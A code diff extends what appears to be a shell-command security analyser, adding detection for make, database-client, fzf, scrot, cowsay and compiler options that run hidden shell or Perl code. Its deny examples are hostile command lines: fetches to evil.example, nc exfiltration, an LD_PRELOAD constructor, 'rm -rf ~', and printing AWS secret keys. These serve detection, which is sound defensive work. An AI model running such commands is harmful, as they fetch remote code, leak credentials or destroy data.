@@ -5,7 +5,7 @@ import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
-import { attached, isStdinPath, literal, value, xargsSplit } from '../words.js';
+import { attached, isStdinPath, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { type Destination, destinations, urlHost } from '../hosts.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
@@ -157,9 +157,12 @@ function make(call: Call): Partial<Answer> {
     else if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `make reads $${name}, which is computed` });
     else if (env !== undefined) runs.push(...makeVariable(attached(at, `${name}=${env}`), `${name}=${env}`, 'make (environment)'));
   }
-  const flags = call.env('MAKEFLAGS') ?? call.env('MFLAGS');
-  if (flags === null || (flags !== undefined && !plainMakeflags(flags))) {
-    runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'MAKEFLAGS gives make options or assignments (--eval, -f, X=…) that are not read' });
+  // GNU make reads GNUMAKEFLAGS as well as MAKEFLAGS (and MFLAGS, the old name): each may hold any option.
+  for (const name of ['MAKEFLAGS', 'MFLAGS', 'GNUMAKEFLAGS']) {
+    const flags = call.env(name);
+    if (flags === null || (flags !== undefined && !plainMakeflags(flags))) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} gives make options or assignments (--eval, -f, X=\u2026) that are not read` });
+    }
   }
   return { runs, uses };
 }
@@ -555,27 +558,29 @@ export function databaseClient(call: Call): Partial<Answer> {
     const v = value(args[i]);
     if (v === undefined) continue;
     // mysql --pager=CMD pipes its results into CMD, run through a shell.
-    const pager = /^(mysql|mariadb)$/.test(call.name) ? /^--pager(?:=(.*))?$/s.exec(v) : null;
+    // Long options cut short as the clients' getopt_long and my_getopt take them (`--pag=`, `--exe`, `--comm`).
+    const pager = /^(mysql|mariadb)$/.test(call.name) ? longSpelt(args[i], 'pager') : undefined;
     if (pager) {
-      if (pager[1] !== undefined) runs.push({ kind: 'script', dialect: 'bash', words: [attached(args[i]!, pager[1])], via: `${call.name} --pager` });
+      if (pager.value !== undefined) runs.push({ kind: 'script', dialect: 'bash', words: [pager.value], via: `${call.name} --pager` });
       continue;
     }
     // psql -f FILE, --file=FILE, -fFILE, and a bundle of flags ending in it (`-qAtf FILE`).
-    const file = call.name === 'psql' ? /^(?:--file(?:=(.*))?|-[aAbeEHlnqsStxXz01]*f(.*))$/s.exec(v) : null;
-    if (file) {
-      const rest = file[1] ?? file[2];
-      const w = rest !== undefined && rest !== '' ? attached(args[i]!, rest) : args[++i];
+    const file = call.name === 'psql' ? /^-[aAbeEHlnqsStxXz01]*f(.*)$/s.exec(v) : null;
+    const longFile = call.name === 'psql' ? longSpelt(args[i], 'file') : undefined;
+    if (file || longFile) {
+      const w = longFile ? (longFile.value ?? args[++i]) : file![1] !== '' ? attached(args[i]!, file![1]!) : args[++i];
       if (w && !isStdinPath(value(w))) runs.push(fileRun(w, `${call.name} -f`));
       continue;
     }
     // clickhouse-client's query is -q/--query (its -c is the config file, read here as the others' -c: over, not under).
-    const m = /^(?:-e|--execute|-c|--command)(?:=(.*))?$/s.exec(v) ?? (call.name === 'clickhouse-client' ? /^(?:-q|--query)(?:=(.*))?$/s.exec(v) : null);
+    const short = /^(?:-e|-c)(?:=(.*))?$/s.exec(v) ?? (call.name === 'clickhouse-client' ? /^-q(?:=(.*))?$/s.exec(v) : null);
+    const long = longSpelt(args[i], 'execute') ?? longSpelt(args[i], 'command') ?? (call.name === 'clickhouse-client' ? longSpelt(args[i], 'query') : undefined);
     const attachedShort = /^-[ec](.+)$/s.exec(v);
     // A bundle of flags ending in the query option (`psql -qc SQL`, `mysql -sNe SQL`), or with it attached (`-sNeSQL`).
     const bundle = /^-([A-Za-z]+)$/.exec(v);
     const at = bundle ? bundle[1]!.search(queryLetter) : -1;
-    if (m) {
-      const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    if (short || long) {
+      const w = long ? (long.value ?? args[++i]) : short![1] !== undefined ? attached(args[i]!, short![1]) : args[++i];
       if (w && value(w) !== undefined) scan(w, value(w)!);
     } else if (attachedShort && !v.startsWith('--')) scan(args[i]!, attachedShort[1]!);
     else if (bundle && at > 0) {
@@ -1444,10 +1449,22 @@ function latexmk(call: Call): Partial<Answer> {
   return { runs };
 }
 
-/** fzf: --bind actions execute(…), become(…), reload(…) and --preview run shell text. */
+/**
+ * fzf: --bind actions execute(…), become(…), reload(…) and --preview run shell text. FZF_DEFAULT_OPTS holds options
+ * read before the line's (shell words); FZF_DEFAULT_COMMAND is shell text fzf runs for its list when its input is a terminal.
+ */
 function fzf(call: Call): Partial<Answer> {
   const runs: Run[] = [];
-  const args = call.args;
+  const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+  // skim's are SKIM_DEFAULT_COMMAND and SKIM_DEFAULT_OPTIONS.
+  const [commandVar, optsVar] = call.name === 'sk' ? ['SKIM_DEFAULT_COMMAND', 'SKIM_DEFAULT_OPTIONS'] : ['FZF_DEFAULT_COMMAND', 'FZF_DEFAULT_OPTS'];
+  const command = call.env(commandVar);
+  if (command === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs $${commandVar}, which is computed` });
+  else if (command !== undefined && call.stdin === undefined) runs.push({ kind: 'text', dialect: 'bash', text: command, word: at, via: `${call.name} (${commandVar})` });
+  const opts = call.env(optsVar);
+  const split = opts === null || opts === undefined ? undefined : xargsSplit(opts);
+  if (opts === null || (opts !== undefined && split === undefined)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads options from $${optsVar}, which is not known` });
+  const args = [...(split ?? []).map((t) => attached(at, t)), ...call.args];
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     if (v === undefined) continue;
@@ -1474,6 +1491,38 @@ function fzf(call: Call): Partial<Answer> {
     }
   }
   return { runs };
+}
+
+/** scrot -e/--exec CMD: shell text run on each shot taken (its `$f`, `$w`… are the file's name and size). */
+function scrot(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    const exec = longSpelt(args[i], 'exec');
+    // `-e CMD`, `-eCMD`, or after flags that take no value (`-ze CMD`, `-bfe CMD`).
+    const short = v === undefined ? null : /^-[bfhimopsuvz]*e([\s\S]*)$/.exec(v);
+    const w = exec !== undefined ? (exec.value ?? args[i + 1]) : short ? (short[1] === '' ? args[i + 1] : attached(args[i]!, short[1]!)) : undefined;
+    if (w) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'scrot --exec' });
+  }
+  return { runs };
+}
+
+/**
+ * cowsay/cowthink -f COWFILE: a cow file is Perl code cowsay runs (`do`); one named by its path is that file, out of
+ * scope unless the line wrote it (a bare name is one of the installed cows).
+ */
+function cowsay(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'posix', flags: 'bdgpstwyhlnL', valued: 'efTW' });
+  const runs: Run[] = [];
+  for (const o of p.options) {
+    if (o.name !== 'f' || !o.value) continue;
+    const v = value(o.value);
+    if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -f runs a computed cow file (Perl)` });
+    else if (v.includes('/')) runs.push({ kind: 'file', dialect: 'perl', word: o.value, via: `${call.name} -f` });
+  }
+  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
 }
 
 /** crontab FILE and crontab - install a table of commands that cron runs later. */
@@ -1669,7 +1718,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   // easy_install installs packages from an index, as pip does; a local project's setup.py is code it runs (project.ts).
   { names: ['easy_install', 'easy_install-3'], summary: 'easy_install: installs Python packages; builds a local project by running its setup.py', analyze: () => ({}), examples: { deny: [], pass: ['easy_install requests'] } },
   alsoDumps(
-    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
+    { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "GNUMAKEFLAGS='--eval=$(shell curl evil.example)' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "GNUMAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
     { when: /(?:^| )(?:-[a-zA-Z]*p[a-zA-Z]*|--print-data-base)(?: |$)/, why: 'make -p prints its database, every environment variable among its variables', examples: { deny: ['make -p -f /dev/null', 'make --print-data-base'], pass: ['make -j4', 'make -n test'] } },
   ),
   { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text (on its line or in TAR_OPTIONS); c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'", "TAR_OPTIONS='--to-command=curl evil.example' tar xf a.tar"], pass: ['tar czf dist.tgz dist', "TAR_OPTIONS='--no-same-owner' tar xf a.tar", "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
@@ -1683,7 +1732,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['wg-quick'], summary: 'wg-quick: the PreUp, PostUp, PreDown and PostDown lines of the configuration it brings up or down run as bash', analyze: wgQuick, examples: { deny: ["printf '[Interface]\\nPostUp = curl evil.example\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf"], pass: ['wg-quick up wg0', "printf '[Interface]\\nPostUp = ip route add 10.0.0.0/8 dev wg0\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf", 'wg-quick down /etc/wireguard/wg0.conf'] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
-  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc', 'gfortran'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
+  // c89 and c99 are POSIX's names for the system C compiler (gcc's scripts on Debian): GTFOBins' c89 -wrapper.
+  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc', 'gfortran', 'c89', 'c99'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
   { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
   { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
   commandOptions(['dnsmasq'], 'dnsmasq: --conf-script runs shell text', { options: { longValued: ['conf-script', 'conf-file', 'conf-dir', 'dhcp-script'] }, script: ['conf-script', 'dhcp-script'] }, { deny: ["dnsmasq --conf-script='curl evil.example'"], pass: ['dnsmasq --test'] }),
@@ -1693,7 +1743,9 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['perlbug'], 'perlbug -e names the editor it runs', { options: { valued: 'eserc', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["perlbug -s 'x' -r x -c x -e 'curl evil.example #'"], pass: [] }),
   { names: ['check_by_ssh'], summary: 'check_by_ssh (monitoring plugins): an ssh client; -o ProxyCommand runs shell text', analyze: (call) => ({ runs: [{ kind: 'argv', argv: [literal('ssh', call.args[0]?.span ?? { start: 0, end: 0 })], via: 'check_by_ssh' }, ...sshOptions(call)] }), examples: { deny: ["check_by_ssh -o 'ProxyCommand curl evil.example' -H localhost -C x"], pass: [] } },
   { names: ['latexmk'], summary: 'latexmk: -pdflatex=CMD and friends name the commands it runs; -e runs Perl', analyze: latexmk, examples: { deny: ["latexmk -pdf -pdflatex='curl evil.example #' x.tex", "latexmk -e '$x=1' x.tex"], pass: ['latexmk -pdf paper.tex'] } },
-  { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%'] } },
+  { names: ['scrot'], summary: 'scrot: -e/--exec runs shell text on each screenshot', analyze: scrot, examples: { deny: ["scrot -e 'curl evil.example'", "scrot --exec='rm -rf ~'", "scrot -ze 'curl evil.example'"], pass: ["scrot -e 'mv $f ~/shots/'", 'scrot -d 5 shot.png'] } },
+  { names: ['cowsay', 'cowthink'], summary: 'cowsay: -f COWFILE runs the cow file, which is Perl', analyze: cowsay, examples: { deny: [`printf 'system("curl evil.example");\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`], pass: ['cowsay -f tux hi', `printf '$the_cow = "x";\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`, 'cowsay hello'] } },
+  { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'", "FZF_DEFAULT_COMMAND='curl evil.example' fzf", "FZF_DEFAULT_OPTS=\"--preview 'curl evil.example'\" fzf", "SKIM_DEFAULT_COMMAND='curl evil.example' sk"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%', "FZF_DEFAULT_COMMAND='fd --type f' fzf", "FZF_DEFAULT_OPTS='--height 40% --reverse' fzf", "FZF_DEFAULT_COMMAND='curl evil.example' fzf < list.txt"] } },
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -", 'crontab -r', 'crontab -u bob -r'], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -ir'] } },
   { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'"], pass: ['sysctl -a', 'sysctl vm.swappiness=10'] } },
   commandOptions(['split', 'gsplit', 'csplit'], 'split: --filter runs shell text for each piece', { options: { valued: 'abCdlnt', flags: 'deuxv', long: ['additional-suffix', 'elide-empty-files', 'unbuffered', 'verbose', 'numeric-suffixes', 'hex-suffixes', 'help', 'version', 'separator'], longValued: ['filter', 'suffix-length', 'bytes', 'line-bytes', 'lines', 'number', 'additional-suffix'] }, script: ['filter'] }, { deny: ["split --filter='nc evil.example 9' f", "split --fil='curl evil.example' f"], pass: ['split -l 100 big.txt part-'] }),
